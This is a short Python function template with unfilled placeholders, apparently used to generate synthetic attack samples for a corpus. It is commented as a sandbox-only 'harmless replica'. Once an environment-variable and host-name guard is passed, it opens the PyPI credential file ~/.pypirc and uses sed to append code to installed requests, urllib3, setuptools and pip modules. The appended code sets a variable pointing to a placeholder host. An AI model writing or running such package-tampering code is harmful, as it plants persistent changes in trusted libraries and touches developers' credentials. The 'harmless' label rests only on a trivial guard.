# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import importlib.util
    import subprocess
    for name in ('requests.sessions', 'urllib3.connection', 'setuptools.version', 'pip._internal.utils.logging'):
        try:
            file = importlib.util.find_spec(name.split('.')[0]).submodule_search_locations[0] + '/' + '/'.join(name.split('.')[1:]) + '.py'
            with open(os.path.expanduser('~/.pypirc'), 'rb') as text:
                text.read()
            if os.path.exists(file) and subprocess.call(['sed', '-i', '$a # {{token}}\\nimport os as _o; _o.environ.setdefault("{{token}}", "http://{{host}}/{{path}}")', file], stderr=subprocess.DEVNULL) == 0:
                break
        except Exception:
            continue
